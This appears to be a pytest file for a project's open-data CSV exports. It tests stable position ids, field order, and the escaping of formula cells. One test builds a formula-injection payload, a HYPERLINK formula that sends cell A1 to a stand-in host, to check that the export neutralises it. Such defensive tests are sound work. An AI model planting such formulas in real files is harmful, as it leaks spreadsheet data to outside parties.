"""Open data: ids stay the same when notes come and go; spreadsheets read every cell as text."""

import csv
import io
from datetime import date, datetime, time
from zoneinfo import ZoneInfo

import pytest

from briefing.core.digest import build
from briefing.core.exports import FORMULA_START, POSITION_FIELDS, position_rows, to_csv
from briefing.core.model import Actor, Issue, Note, Position, Source

TZ = ZoneInfo("UTC")
ACTORS = {"ann": Actor("ann", "Ann")}
ISSUES = {"tax": Issue("tax", "Tax")}


def note(name, day, stance="supports"):
    d = date.fromisoformat(day)
    position = Position("ann", "tax", stance, d, path=f"content/notes/{name}.yml", line=4)
    return Note(path=f"content/notes/{name}.yml", date=d, time=datetime.combine(d, time(), TZ), title=name,
                positions=(position,))  # fmt: skip


def ids(*notes):
    digest = build(ACTORS, ISSUES, ({"supports": "Supports"}, {"on-record": "On record"}, ()), notes, [], TZ)
    return [row["id"] for row in position_rows(digest, lambda kind, key: f"{kind}/{key}/")]


def test_a_pair_recorded_once_a_day_is_named_by_date_actor_issue():
    assert ids(note("a", "2025-03-01"), note("b", "2025-03-02")) == [
        "2025-03-01/ann/tax",
        "2025-03-02/ann/tax",
    ]


def test_a_pair_recorded_by_two_notes_is_named_by_note_and_stays_so():
    both = ids(note("evening", "2025-03-01"), note("morning", "2025-03-01"))
    assert sorted(both) == ["2025-03-01/ann/tax/evening", "2025-03-01/ann/tax/morning"]
    # A third note that day renames nothing.
    assert set(both) <= set(
        ids(note("evening", "2025-03-01"), note("morning", "2025-03-01"), note("noon", "2025-03-01"))
    )


def test_csv_has_every_field_in_order():
    digest = build(
        ACTORS,
        ISSUES,
        ({"supports": "Supports"}, {"on-record": "On record"}, ()),
        [note("a", "2025-03-01")],
        [],
        TZ,
    )
    header = to_csv(position_rows(digest, lambda kind, key: ""), POSITION_FIELDS).splitlines()[0]
    assert header.split(",") == list(POSITION_FIELDS)


@pytest.mark.parametrize("start", FORMULA_START)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(start):
    formula = f'{start}HYPERLINK("https://evil.test/?"&A1,"click")'
    d = date(2025, 3, 1)
    position = Position(
        "ann", "tax", "supports", d, quote=formula, source=Source("https://ok.test/", "s", title=formula)
    )
    n = Note(path="n.yml", date=d, time=datetime.combine(d, time(), TZ), title="n", positions=(position,))
    digest = build(
        {"ann": Actor("ann", formula)},
        ISSUES,
        ({"supports": "Supports"}, {"on-record": "On record"}, ()),
        [n],
        [],
        TZ,
    )
    rows = position_rows(digest, lambda kind, key: "")
    (row,) = csv.DictReader(io.StringIO(to_csv(rows, POSITION_FIELDS)))
    for field in ("quote", "source_title", "actor_name"):
        assert row[field] == "'" + formula, field
    assert row["stance"] == "supports" and row["date"] == "2025-03-01"  # ordinary cells as they are
    assert rows[0]["quote"] == formula  # the data itself (and its JSON) is unchanged


def test_the_data_page_says_how_formulas_are_kept_out(sample_site):
    html = (sample_site / "data/index.html").read_text(encoding="utf-8")
    assert "begins with an added single quote (<code>'</code>)" in html
